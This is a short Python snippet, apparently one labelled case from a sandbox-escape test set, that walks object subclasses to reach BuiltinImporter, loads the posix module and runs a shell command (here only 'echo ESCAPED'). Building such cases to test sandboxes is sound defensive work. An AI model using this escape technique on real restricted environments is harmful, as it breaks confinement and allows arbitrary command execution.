# kind: subclasses
# effect: prints ESCAPED
loader = next(k for k in "".__class__.__mro__[-1].__subclasses__() if "BuiltinImporter" in str(k))
posix = loader.load_module("posix")
posix.system("echo ESCAPED")
